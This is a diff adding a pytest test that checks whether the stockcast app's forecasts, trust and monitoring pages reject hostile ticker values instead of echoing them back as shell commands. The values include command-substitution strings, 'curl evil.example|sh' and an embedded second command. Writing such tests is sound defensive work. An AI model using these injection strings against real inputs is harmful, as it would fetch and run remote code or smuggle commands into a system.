@@ -67,6 +67,17 @@ def test_a_ticker_without_data_says_so_instead_of_showing_another(home, view):
     assert "stockcast forecast NOPE" in text(app)
 
 
+@pytest.mark.parametrize("view", ["forecasts", "trust", "monitoring"])
+@pytest.mark.parametrize(
+    "ticker", ["$(touch x)", "X; curl evil.example|sh", "--debug", "`id`", "X\nstockcast demo", "<b>X"]
+)
+def test_no_address_makes_a_page_offer_a_command_of_its_own(home, view, ticker):
+    app = open_page(view, ticker=ticker)
+    assert "is not a ticker" in text(app)
+    assert "<pre>" not in text(app)
+    assert "stockcast " not in text(app)
+
+
 @pytest.mark.parametrize("view", PAGES)
 def test_a_broken_warehouse_is_one_sentence_and_a_button(empty_home, view):
     (empty_home / "warehouse.duckdb").write_bytes(b"this is no database" * 1000)
